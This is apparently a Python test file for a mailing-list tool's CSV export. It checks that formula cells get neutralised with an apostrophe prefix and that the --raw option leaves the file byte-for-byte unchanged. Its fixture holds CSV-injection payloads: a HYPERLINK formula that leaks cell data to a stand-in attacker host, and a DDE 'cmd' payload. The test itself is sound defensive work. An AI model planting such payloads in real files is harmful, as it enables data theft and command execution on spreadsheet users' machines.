"""Lists as files from outside: what export writes for a spreadsheet (issue 14 item 9),
and which encoding a list is read in (item 10)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from conftest import Runner

FORMULAS = (
    "email,name,company,note\r\n"
    'hanako@example.jp,"=HYPERLINK(""https://evil.example.net/?""&A2,""詳細"")",'
    "+81-3-1234-5678,-2+3\r\n"
    "taro@example.jp,@SUM(1+1),=cmd|' /C calc'!A0,普通のメモ\r\n"
    "jiro@example.jp,山田 次郎,菊花商事,'=quoted already\r\n"
)


def test_export_neutralizes_formula_cells_and_raw_keeps_them(workspace: Path, run: Runner) -> None:
    (workspace / "subscribers" / "crm.csv").write_text(FORMULAS, encoding="utf-8")
    result = run("subscribers", "export", "crm")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8"))))
    assert rows == [
        ["email", "name", "company", "note"],
        [
            "hanako@example.jp",
            '\'=HYPERLINK("https://evil.example.net/?"&A2,"詳細")',
            "'+81-3-1234-5678",
            "'-2+3",
        ],
        ["taro@example.jp", "'@SUM(1+1)", "'=cmd|' /C calc'!A0", "普通のメモ"],
        ["jiro@example.jp", "山田 次郎", "菊花商事", "'=quoted already"],
    ]
    raw = run("subscribers", "export", "crm", "--raw", "-o", "raw.csv")
    assert raw.exit_code == 0, raw.output
    assert (workspace / "raw.csv").read_bytes() == FORMULAS.encode("utf-8")
